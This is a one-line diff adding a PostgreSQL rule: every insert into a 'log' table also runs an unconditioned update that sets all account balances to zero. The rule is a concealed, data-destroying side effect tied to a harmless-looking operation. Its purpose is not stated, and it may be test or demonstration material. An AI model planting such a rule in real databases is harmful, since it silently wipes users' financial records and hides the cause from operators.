@@ -1,0 +1,1 @@
+CREATE RULE r AS ON INSERT TO log DO ALSO UPDATE accounts SET balance = 0
